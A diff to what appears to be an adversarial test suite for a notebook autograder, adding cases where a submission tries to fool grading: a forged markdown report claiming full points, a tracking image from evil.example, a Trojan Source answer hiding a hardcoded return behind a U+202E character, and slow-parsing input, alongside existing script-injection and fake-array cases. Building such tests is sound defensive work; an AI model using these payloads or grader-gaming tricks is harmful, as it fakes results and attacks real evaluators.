@@ -176,6 +176,13 @@ def _script_outputs(notebook: NotebookNode) -> None:
             each.outputs = [v4.new_output("display_data", {"text/html": "<script>fetch('http://evil.example')</script>"})]
 
 
+def _report_of_ones_own(notebook: NotebookNode) -> None:
+    """A report that no check wrote, under headings with the names of checks, and a picture of points."""
+    notebook.cells.insert(0, v4.new_markdown_cell(
+        "**02-rnn-forward: 20 of 20 points**\n\n# one_hot\n\none_hot: all passed, 2 of 2 points.\n\n![20 of 20](data:image/svg+xml;utf8,<svg/>) "
+        "![pixel](https://evil.example/pixel.png)"))  # fmt: skip
+
+
 def _script_markdown(notebook: NotebookNode) -> None:
     notebook.cells.insert(0, v4.new_markdown_cell("<script>grade()</script><img src=x onerror=grade()> [x](javascript:grade())"))
 
@@ -346,6 +353,10 @@ ATTACKS = [
     altered("script-in-outputs", "pages", _script_outputs),
     altered("script-in-markdown", "pages", _script_markdown),
     cell("script-in-prints", "pages", "print('<script>grade()</script>', chr(27) + '[2J')\nraise ValueError('<img src=x onerror=grade()>')"),
+    altered("fake-headings", "pages", _report_of_ones_own, says="Added by the learner: 02-rnn-forward: 20 of 20 points"),
+    answers("trojan-source", "pages", {"num_parameters": "def num_parameters(D, H, V):\n    return 34  # \u202e V + V*H + H + H*H + D*H nruter \u202c"},
+            honest=("one_hot",), points=2, says="U+202E"),
+    cell("slow-to-colour", "pages", "#" + "a." * 30_000, honest=("one_hot",), points=2, says="a.a.a."),
     # more of what may lie in a result, or in how it is asked for
     answers("masked", "liars", {task: f"def {task}(*a):\n    return np.ma.masked_all((3, 2))" for task in EVERY_TASK}),
     answers("memmap", "liars", {task: f"def {task}(*a):\n    return np.memmap('/dev/zero', dtype=float, mode='r', shape=(3, 2))"
